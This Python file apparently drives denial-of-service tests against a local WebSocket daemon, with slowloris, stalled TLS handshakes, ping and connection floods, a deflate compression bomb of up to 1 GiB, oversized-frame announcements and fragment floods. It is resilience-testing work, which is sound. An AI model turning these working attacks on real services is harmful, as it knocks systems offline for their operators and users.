"""Attacks on a daemon, one in each process: `attackers.py NAME HOST PORT TOKEN`. Prints a line when it is under way, and goes on until it is ended.

Every attack keeps to what a client on the network can do; what comes back is read only where the attack needs it.
"""

import contextlib
import os
import selectors
import socket
import ssl
import sys
import time
import zlib

from wire import CLOSE, PING, TAIL, TEXT, RawClient, command, frame, upgrade_request


def connect(address):
    """A connection from one of many addresses of this machine."""
    connect.count += 1
    raw = socket.socket()
    raw.bind((f"127.0.{connect.count // 200 % 200}.{connect.count % 200 + 2}", 0))
    raw.connect(address)
    return raw


connect.count = 0


def under_way():
    print("under way", flush=True)


def hang(address, count, *hellos):
    """Connections that say one of `hellos` in turn and no more; those that are ended are made again, up to 1,000 a second: see `connects` for storms."""
    crowd = []
    told = False
    while True:
        for _ in range(min(count - len(crowd), 50 if told else count)):
            with contextlib.suppress(OSError):
                raw = connect(address)
                raw.sendall(hellos[connect.count % len(hellos)])
                raw.setblocking(False)
                crowd.append(raw)
        if not told:
            under_way()
            told = True
        time.sleep(0.05)
        for raw in crowd[:]:
            try:
                if raw.recv(4096):
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
            raw.close()
            crowd.remove(raw)


def slowloris(address, _token):
    """1,000 requests that are never finished."""
    hang(address, 1_000, b"GET /v1/ws HTTP/1.1\r\nHost: x\r\nX-Slow:")


def client_hello():
    """What a TLS client says first."""
    said = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), said, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return said.read()


def stalled_hellos(address, _token):
    """1,000 TLS handshakes that are begun and not finished: after the first message, and in the middle of a record."""
    hello = client_hello()
    hang(address, 1_000, hello, hello[: len(hello) // 2])


def idle(address, _token):
    """2,000 WebSockets without a token."""
    hang(address, 2_000, upgrade_request())


def slow_readers(address, token):
    """200 members of the canary's flooded room who read nothing; those who are closed come back."""
    crowd, told = [], False
    while True:
        while len(crowd) < 200:
            with contextlib.suppress(OSError, AssertionError):
                client = RawClient(address, token, 4096)
                client.send(frame(TEXT, b'{"type":"subscribe","room":"flood:1"}'))
                client.ends = time.monotonic() + 5
                crowd.append(client)
        if not told:
            under_way()
            told = True
        time.sleep(0.1)
        for client in crowd[:]:
            if time.monotonic() > client.ends:
                client.socket.close()
                crowd.remove(client)


def ping_flood(address, token):
    """Four clients that send pings as fast as they can, and read the pongs."""
    flooders = [RawClient(address, token) for _ in range(4)]
    pings = frame(PING, b"x") * 1_000
    for flooder in flooders:
        flooder.socket.setblocking(False)
    under_way()
    with selectors.DefaultSelector() as selector:
        for flooder in flooders:
            selector.register(flooder.socket, selectors.EVENT_READ | selectors.EVENT_WRITE)
        while True:
            for key, events in selector.select():
                with contextlib.suppress(BlockingIOError):
                    if events & selectors.EVENT_READ:
                        key.fileobj.recv(1 << 16)
                    if events & selectors.EVENT_WRITE:
                        key.fileobj.send(pings)


def connects(address, token):
    """500 handshakes a second, each followed by the end of the connection."""
    under_way()
    due = time.monotonic()
    while True:
        due += 1 / 500
        time.sleep(max(0, due - time.monotonic()))
        with contextlib.suppress(OSError), connect(address) as raw:
            raw.sendall(upgrade_request(token))


def tls_connects(address, token):
    """500 TLS connections a second, each with a handshake of its own, a WebSocket, and the end."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    under_way()
    due = time.monotonic()
    while True:
        due += 1 / 500
        time.sleep(max(0, due - time.monotonic()))
        with contextlib.suppress(OSError), connect(address) as raw, context.wrap_socket(raw) as client:
            client.sendall(upgrade_request(token))


def bomb(megabytes):
    """A compressed message that inflates to so much: a whole frame if that is short enough for a command, otherwise fragments."""
    raw = zlib.compressobj(9, wbits=-15)
    # A full flush ends at a byte and refers to nothing before it, so that it can be repeated.
    part = (raw.compress(bytes(1 << 20)) + raw.flush(zlib.Z_FULL_FLUSH)) * megabytes
    message = part.removesuffix(TAIL)
    pieces = [message[at : at + 4096] for at in range(0, len(message), 4096)]
    first, *rest, last = pieces
    return b"".join([frame(TEXT, first, fin=False, rsv=4), *(frame(0, piece, fin=False) for piece in rest), frame(0, last)])


BOMBS_MIB = [16, 64, 256, 1024]


def bombs(address, token):
    """Compressed messages of 16 MiB to 1 GiB, again and again."""
    made, number = [bomb(megabytes) for megabytes in BOMBS_MIB], 0
    under_way()
    while True:
        number += 1
        with contextlib.suppress(OSError, AssertionError), RawClient(address, token, Sec_WebSocket_Extensions="permessage-deflate") as client:
            client.send(made[number % len(made)])
            while client.next_frame()[0] != CLOSE:
                pass


def questioners(address, token, question):
    """20 members of a room of 4,096 states who ask as often as they may, and read what comes."""
    crowd = [RawClient(address, token) for _ in range(20)]
    questions = command(type="subscribe", room="flood:1") + question * 40
    for client in crowd:
        client.send(questions)
        client.socket.setblocking(False)
    under_way()
    asked = time.monotonic()
    with selectors.DefaultSelector() as selector:
        for client in crowd:
            selector.register(client.socket, selectors.EVENT_READ)
        while True:
            for key, _ in selector.select(0.1):
                with contextlib.suppress(BlockingIOError):
                    key.fileobj.recv(1 << 20)
            if time.monotonic() > asked + 2:
                asked = time.monotonic()
                for client in crowd:
                    with contextlib.suppress(OSError):
                        client.send(question * 8)


def snapshots(address, token):
    """As many snapshots as commands are taken."""
    questioners(address, token, command(type="snapshot", room="flood:1"))


def joins(address, token):
    """As many joins of the room that one is in already."""
    questioners(address, token, command(type="subscribe", room="flood:1") * 5)


def huge(address, token):
    """Clients that announce a message of 2^62 bytes, and come back when they are closed."""
    announced = b"\x81\xff" + (1 << 62).to_bytes(8, "big") + bytes(4)
    told = False
    while True:
        for _ in range(2):
            with contextlib.suppress(OSError, AssertionError), RawClient(address, token) as client:
                client.send(announced + bytes(60_000))
                while client.next_frame()[0] != CLOSE:
                    pass
        if not told:
            under_way()
            told = True


def fragments(address, token):
    """131,000 fragments of no byte, again and again."""
    tiny = frame(0, b"", fin=False)
    under_way()
    while True:
        with contextlib.suppress(OSError), RawClient(address, token) as client:
            client.send(frame(TEXT, b"", fin=False))
            for _ in range(131):
                client.send(tiny * 1_000)


def nonsense(address, token):
    """Commands that are none, as many as are taken."""
    under_way()
    while True:
        with contextlib.suppress(OSError), RawClient(address, token) as client:
            for _ in range(100):
                client.send(frame(TEXT, b'{"type":"nonsense","id":1}') * 100)


ATTACKS = [
    slowloris,
    stalled_hellos,
    idle,
    slow_readers,
    ping_flood,
    connects,
    tls_connects,
    huge,
    fragments,
    bombs,
    nonsense,
    snapshots,
    joins,
]

if __name__ == "__main__":
    name, host, port, token = sys.argv[1:]
    os.nice(19)  # its core may be the canary's
    (attack,) = [attack for attack in ATTACKS if attack.__name__ == name]
    attack((host, int(port)), token)
